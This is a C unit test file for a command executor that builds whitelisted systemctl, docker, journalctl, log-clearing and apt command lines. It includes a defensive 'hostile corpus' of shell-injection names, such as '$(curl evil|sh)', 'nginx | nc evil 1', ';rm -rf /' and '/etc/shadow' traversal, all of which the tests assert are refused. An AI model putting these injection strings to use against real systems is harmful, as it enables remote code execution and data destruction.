/* test_executor.c - the command whitelist: exact command lines for every
 * action type, sudo only for non-root users, and a hostile corpus that never
 * builds anything. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cmocka.h>

#include "hlc/executor.h"

#define SENTINEL ((char *)0x1)

static char *
build(enum hlc_action_type t, const char *target, bool root, int *rc)
{
    struct hlc_action_spec sp = {.type = t, .target = target, .as_root = root};
    char *cmd = SENTINEL;
    *rc = hlc_action_build(&sp, &cmd);
    return cmd;
}

static void
expect(enum hlc_action_type t, const char *target, bool root, const char *want)
{
    int rc;
    char *cmd = build(t, target, root, &rc);
    assert_int_equal(rc, 0);
    assert_string_equal(cmd, want);
    free(cmd);
}

static void
test_type_names(void **state)
{
    (void)state;
    const char *names[] = {"restart_service",  "start_service",   "stop_service",
                           "clear_logs",       "apply_updates",   "container_start",
                           "container_stop",   "container_restart", "custom",
                           "apply_pack"};
    assert_int_equal(sizeof(names) / sizeof(*names), HLC_ACT_COUNT);
    for (int i = 0; i < HLC_ACT_COUNT; i++) {
        enum hlc_action_type t;
        assert_int_equal(hlc_action_type_parse(names[i], &t), 0);
        assert_int_equal(t, i);
        assert_string_equal(hlc_action_type_name(t), names[i]);
    }
    enum hlc_action_type t = HLC_ACT_CUSTOM;
    const char *bad[] = {"", "restart", "Restart_service", "restart_service ", "shell", "rm"};
    for (size_t i = 0; i < sizeof(bad) / sizeof(*bad); i++)
        assert_int_equal(hlc_action_type_parse(bad[i], &t), HLC_EINVAL);
    assert_int_equal(hlc_action_type_parse(NULL, &t), HLC_EINVAL);
    assert_null(hlc_action_type_name(HLC_ACT_COUNT));
    assert_true(hlc_action_is_service(HLC_ACT_STOP_SERVICE));
    assert_false(hlc_action_is_service(HLC_ACT_CONTAINER_STOP));
    assert_true(hlc_action_is_container(HLC_ACT_CONTAINER_RESTART));
    assert_false(hlc_action_is_container(HLC_ACT_CLEAR_LOGS));
}

static void
test_templates(void **state)
{
    (void)state;
    expect(HLC_ACT_RESTART_SERVICE, "nginx.service", false, "sudo -n systemctl restart 'nginx.service'");
    expect(HLC_ACT_RESTART_SERVICE, "nginx", true, "systemctl restart 'nginx'");
    expect(HLC_ACT_START_SERVICE, "getty@tty1.service", false,
           "sudo -n systemctl start 'getty@tty1.service'");
    expect(HLC_ACT_STOP_SERVICE, "plex", true, "systemctl stop 'plex'");
    expect(HLC_ACT_CONTAINER_START, "web-1", false, "sudo -n docker start 'web-1'");
    expect(HLC_ACT_CONTAINER_STOP, "db_main", true, "docker stop 'db_main'");
    expect(HLC_ACT_CONTAINER_RESTART, "a.b", false, "sudo -n docker restart 'a.b'");
    expect(HLC_ACT_CLEAR_LOGS, "journal", false, "sudo -n journalctl --vacuum-time=7d");
    expect(HLC_ACT_CLEAR_LOGS, "journal", true, "journalctl --vacuum-time=7d");
    expect(HLC_ACT_CLEAR_LOGS, "/var/log/nginx/access.log.1", false,
           "if [ \"$(realpath -e -- '/var/log/nginx/access.log.1')\" = "
           "'/var/log/nginx/access.log.1' ]; then sudo -n dd if=/dev/null "
           "of='/var/log/nginx/access.log.1' oflag=nofollow,nonblock conv=nocreat status=none; "
           "else echo 'clear_logs: refused, missing or reached through a symlink:' "
           "'/var/log/nginx/access.log.1' >&2; exit 1; fi");
    expect(HLC_ACT_CLEAR_LOGS, "/var/log/syslog", true,
           "if [ \"$(realpath -e -- '/var/log/syslog')\" = '/var/log/syslog' ]; then "
           "dd if=/dev/null of='/var/log/syslog' oflag=nofollow,nonblock conv=nocreat status=none; "
           "else echo 'clear_logs: refused, missing or reached through a symlink:' "
           "'/var/log/syslog' >&2; exit 1; fi");
    const char *upd = "DEBIAN_FRONTEND=noninteractive apt-get -q update && "
                      "DEBIAN_FRONTEND=noninteractive apt-get -q -y -o "
                      "Dpkg::Options::=--force-confdef -o Dpkg::Options::=--force-confold upgrade";
    expect(HLC_ACT_APPLY_UPDATES, NULL, true, upd);
    expect(HLC_ACT_APPLY_UPDATES, "system", true, upd);
    expect(HLC_ACT_APPLY_UPDATES, "", false,
           "sudo -n DEBIAN_FRONTEND=noninteractive apt-get -q update && "
           "sudo -n DEBIAN_FRONTEND=noninteractive apt-get -q -y -o "
           "Dpkg::Options::=--force-confdef -o Dpkg::Options::=--force-confold upgrade");

    /* days for the journal */
    struct hlc_action_spec sp = {.type = HLC_ACT_CLEAR_LOGS, .target = "journal", .days = 30};
    char *cmd = SENTINEL;
    assert_int_equal(hlc_action_build(&sp, &cmd), 0);
    assert_string_equal(cmd, "sudo -n journalctl --vacuum-time=30d");
    free(cmd);
    int bad_days[] = {-1, HLC_CLEAR_LOGS_MAX_DAYS + 1, 1 << 30};
    for (size_t i = 0; i < sizeof(bad_days) / sizeof(*bad_days); i++) {
        sp.days = bad_days[i];
        cmd = SENTINEL;
        assert_int_equal(hlc_action_build(&sp, &cmd), HLC_EDENIED);
        assert_ptr_equal(cmd, SENTINEL);
    }
    assert_int_equal(hlc_action_timeout_ms(HLC_ACT_APPLY_UPDATES, 10, 99), 99);
    assert_int_equal(hlc_action_timeout_ms(HLC_ACT_RESTART_SERVICE, 10, 99), 10);
}

static void
test_custom(void **state)
{
    (void)state;
    const char *body = "df -h /srv && sudo -n systemctl reload 'smbd'\necho \"done $HOME\"";
    /* Verbatim, never prefixed, whatever the user. */
    for (int root = 0; root < 2; root++) {
        struct hlc_action_spec sp = {
            .type = HLC_ACT_CUSTOM, .target = "reload-samba", .script = body, .as_root = root};
        char *cmd = SENTINEL;
        assert_int_equal(hlc_action_build(&sp, &cmd), 0);
        assert_string_equal(cmd, body);
        free(cmd);
    }
    /* No script body, a bad body or a bad name: nothing built. */
    const char *bad_bodies[] = {NULL, "", "a\rb", "nul\x01", "esc\x1b[0m", "del\x7f"};
    for (size_t i = 0; i < sizeof(bad_bodies) / sizeof(*bad_bodies); i++) {
        struct hlc_action_spec sp = {
            .type = HLC_ACT_CUSTOM, .target = "ok", .script = bad_bodies[i]};
        char *cmd = SENTINEL;
        assert_int_equal(hlc_action_build(&sp, &cmd), HLC_EDENIED);
        assert_ptr_equal(cmd, SENTINEL);
    }
    char *big = malloc(HLC_SCRIPT_MAX + 2);
    memset(big, 'x', HLC_SCRIPT_MAX + 1);
    big[HLC_SCRIPT_MAX + 1] = '\0';
    assert_false(hlc_script_valid_body(big));
    big[HLC_SCRIPT_MAX] = '\0';
    assert_true(hlc_script_valid_body(big));
    free(big);
    assert_true(hlc_script_valid_name("backup-now_2"));
    const char *bad_names[] = {"", "Backup", "-x", "_x", "a b", "a/b", "a.b", "a;b", NULL};
    for (size_t i = 0; i < sizeof(bad_names) / sizeof(*bad_names); i++)
        assert_false(hlc_script_valid_name(bad_names[i]));
    char longname[65];
    memset(longname, 'a', 64);
    longname[64] = '\0';
    assert_false(hlc_script_valid_name(longname));
    longname[63] = '\0';
    assert_true(hlc_script_valid_name(longname));
}

/* The hostile corpus: at least 100 names built from injection fragments,
 * each refused for every type that takes a name, and *cmd left alone. */
static const char *const fragments[] = {
    ";",     "|",      "&",        "&&",      "||",        "$(id)",      "`id`",
    "'",     "\"",     " ",        "\t",      "\n",        "\r",         ">",
    "<",     ">>",     "*",        "?",       "[a]",       "{a,b}",      "~",
    "!",     "#",      "\\",       "$HOME",   "${IFS}",    "%",          "^",
    "=",     ",",      "(",        ")",       "\x01",      "\x7f",       "\xc3\xa9",
    "\xe2\x80\xae",    "\xef\xbc\x9b", "\xc0\xaf", "/",    "..",         "/../",
};

static void
check_refused(const char *name)
{
    static const enum hlc_action_type named[] = {
        HLC_ACT_RESTART_SERVICE, HLC_ACT_START_SERVICE,    HLC_ACT_STOP_SERVICE,
        HLC_ACT_CLEAR_LOGS,      HLC_ACT_CONTAINER_START,  HLC_ACT_CONTAINER_STOP,
        HLC_ACT_CONTAINER_RESTART, HLC_ACT_CUSTOM,         HLC_ACT_APPLY_UPDATES};
    for (size_t k = 0; k < sizeof(named) / sizeof(*named); k++) {
        if (named[k] == HLC_ACT_APPLY_UPDATES && name[0] == '\0')
            continue; /* it takes no target: "" is its one valid form */
        for (int root = 0; root < 2; root++) {
            struct hlc_action_spec sp = {
                .type = named[k], .target = name, .script = "true", .as_root = root};
            char *cmd = SENTINEL;
            int rc = hlc_action_build(&sp, &cmd);
            if (rc != HLC_EDENIED)
                fail_msg("type %d built '%s' for hostile name '%s'", (int)named[k],
                         cmd != SENTINEL ? cmd : "?", name);
            assert_ptr_equal(cmd, SENTINEL);
            assert_false(hlc_action_target_valid(named[k], name));
        }
    }
}

static void
test_hostile_corpus(void **state)
{
    (void)state;
    size_t nfrag = sizeof(fragments) / sizeof(*fragments);
    size_t tried = 0;
    char name[256];
    for (size_t i = 0; i < nfrag; i++) {
        /* Alone, before, inside and after a valid name. */
        const char *forms[] = {"%s", "%snginx", "ngi%snx", "nginx%s", "-%snginx"};
        for (size_t f = 0; f < sizeof(forms) / sizeof(*forms); f++) {
#pragma GCC diagnostic push
#pragma GCC diagnostic ignored "-Wformat-nonliteral"
            snprintf(name, sizeof(name), forms[f], fragments[i]);
#pragma GCC diagnostic pop
            check_refused(name);
            tried++;
        }
    }
    const char *whole[] = {
        "",
        "-",
        "--help",
        "-nginx",
        "--version",
        ".",
        "..",
        "...",
        "nginx..service",
        "../../etc/shadow",
        "/var/log/../../etc/shadow",
        "/var/log/./syslog",
        "/var/log/.hidden",
        "/var/log//syslog",
        "/var/log/",
        "/var/log",
        "/etc/passwd",
        "var/log/syslog",
        "/var/log/syslog/",
        "/var/log/a b",
        "/var/log/x;rm -rf /",
        "/var/log/$(reboot)",
        "nginx; reboot",
        "nginx && reboot",
        "nginx | nc evil 1",
        "nginx\nreboot",
        "$(curl evil|sh)",
        "`reboot`",
        "nginx' ; reboot ; '",
        "nginx\"; reboot; \"",
    };
    for (size_t i = 0; i < sizeof(whole) / sizeof(*whole); i++) {
        /* clear_logs accepts real /var/log paths; none above is one. */
        check_refused(whole[i]);
        tried++;
    }
    /* 10 KB long */
    char *longname = malloc(10241);
    memset(longname, 'a', 10240);
    longname[10240] = '\0';
    check_refused(longname);
    tried++;
    char *longpath = malloc(10250);
    memcpy(longpath, "/var/log/", 9);
    memset(longpath + 9, 'b', 10240);
    longpath[10249] = '\0';
    check_refused(longpath);
    tried++;
    free(longname);
    free(longpath);
    assert_true(tried >= 100);
}

/* Every built line, run by a real /bin/sh with stand-in systemctl, docker,
 * journalctl, dd and sudo on PATH, passes the target as one argument
 * and runs exactly one program with exactly the template's words. */
static void
test_through_sh(void **state)
{
    (void)state;
    char dir[] = "/tmp/hlc-exec-XXXXXX";
    assert_non_null(mkdtemp(dir));
    const char *tools[] = {"systemctl", "docker", "journalctl", "dd", "sudo", "realpath"};
    for (size_t i = 0; i < sizeof(tools) / sizeof(*tools); i++) {
        char path[256];
        snprintf(path, sizeof(path), "%s/%s", dir, tools[i]);
        FILE *f = fopen(path, "w");
        assert_non_null(f);
        /* Logs "<tool>" then each argument on its own line ("|" framed). */
        fprintf(f, "#!/bin/sh\n{ printf '%%s' '%s'; for a in \"$@\"; do printf ' [%%s]' \"$a\"; "
                   "done; echo; } >> \"%s/log\"\n",
                tools[i], dir);
        if (strcmp(tools[i], "sudo") == 0)
            fprintf(f, "[ \"$1\" = -n ] || exit 99\nshift\nexec \"$@\"\n");
        /* realpath -e -- P: P resolves to itself unless it names "link" */
        if (strcmp(tools[i], "realpath") == 0)
            fprintf(f, "case \"$3\" in *link*) echo /etc/shadow;; *) printf '%%s\\n' \"$3\";; "
                       "esac\n");
        fclose(f);
        assert_int_equal(chmod(path, 0755), 0);
    }
    struct {
        enum hlc_action_type t;
        const char *target;
        bool root;
        const char *log;
        int status; /* the line's exit status */
    } cases[] = {
        {HLC_ACT_RESTART_SERVICE, "getty@tty1.service", false,
         "sudo [-n] [systemctl] [restart] [getty@tty1.service]\n"
         "systemctl [restart] [getty@tty1.service]\n", 0},
        {HLC_ACT_STOP_SERVICE, "a:b-c_d", true, "systemctl [stop] [a:b-c_d]\n", 0},
        {HLC_ACT_CONTAINER_RESTART, "web.1", false,
         "sudo [-n] [docker] [restart] [web.1]\ndocker [restart] [web.1]\n", 0},
        {HLC_ACT_CLEAR_LOGS, "journal", true, "journalctl [--vacuum-time=7d]\n", 0},
        {HLC_ACT_CLEAR_LOGS, "/var/log/app/x-1.log", false,
         "realpath [-e] [--] [/var/log/app/x-1.log]\n"
         "sudo [-n] [dd] [if=/dev/null] [of=/var/log/app/x-1.log] [oflag=nofollow,nonblock] "
         "[conv=nocreat] [status=none]\n"
         "dd [if=/dev/null] [of=/var/log/app/x-1.log] [oflag=nofollow,nonblock] [conv=nocreat] "
         "[status=none]\n", 0},
        {HLC_ACT_CLEAR_LOGS, "/var/log/link.log", true, "realpath [-e] [--] [/var/log/link.log]\n",
         1},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
        char logp[256];
        snprintf(logp, sizeof(logp), "%s/log", dir);
        unlink(logp);
        int rc;
        char *cmd = build(cases[i].t, cases[i].target, cases[i].root, &rc);
        assert_int_equal(rc, 0);
        char *line = NULL;
        size_t n = 0;
        FILE *ms = open_memstream(&line, &n);
        fprintf(ms, "PATH='%s' /bin/sh -c \"$HLC_CMD\"", dir);
        fclose(ms);
        setenv("HLC_CMD", cmd, 1);
        int st = system(line);
        assert_true(WIFEXITED(st));
        assert_int_equal(WEXITSTATUS(st), cases[i].status);
        free(line);
        free(cmd);
        FILE *f = fopen(logp, "r");
        assert_non_null(f);
        char got[1024];
        size_t len = fread(got, 1, sizeof(got) - 1, f);
        got[len] = '\0';
        fclose(f);
        assert_string_equal(got, cases[i].log);
    }
    char rm[300];
    snprintf(rm, sizeof(rm), "rm -rf '%s'", dir);
    assert_int_equal(system(rm), 0);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_type_names),   cmocka_unit_test(test_templates),
        cmocka_unit_test(test_custom),       cmocka_unit_test(test_hostile_corpus),
        cmocka_unit_test(test_through_sh),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
